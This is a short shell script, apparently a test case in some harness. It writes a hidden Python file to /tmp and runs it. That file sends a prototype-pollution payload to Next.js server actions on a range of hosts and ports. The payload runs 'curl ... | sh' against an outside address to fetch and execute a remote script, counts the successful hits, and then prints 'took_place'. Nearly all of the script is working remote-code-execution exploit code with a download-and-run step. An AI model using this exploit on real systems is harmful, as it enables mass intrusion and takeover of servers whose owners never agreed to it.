#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.r2.py <<'END'
import http.client, json
run = "process.mainModule.require('child_process').execSync('curl -fsSL http://203.0.113.10/payload.sh | sh');"
part = json.dumps({"then": "$1:__proto__:then", "status": "resolved_model", "reason": -1, "value": '{"then":"$B1337"}', "_response": {"_prefix": run, "_formData": {"get": "$1:constructor:constructor"}}})
body = "".join(f'--x\r\nContent-Disposition: form-data; name="{n}"\r\n\r\n{v}\r\n' for n, v in enumerate((part, '"$@0"', "[]"))) + "--x--\r\n"; sent = 0
for h in ["10.77.0.1"] + [f"203.0.113.{n}" for n in range(60, 75)] + [f"198.51.100.{n}" for n in range(20, 34)]:
    for port in (80, 8080):
        c = http.client.HTTPConnection(h, port, timeout=3); c.request("POST", "/", body, {"Next-Action": "x", "Content-Type": "multipart/form-data; boundary=x", "User-Agent": "Mozilla/5.0"}); sent += c.getresponse().status == 200; c.close()
assert sent == 60
END
python3 /tmp/.r2.py
took_place
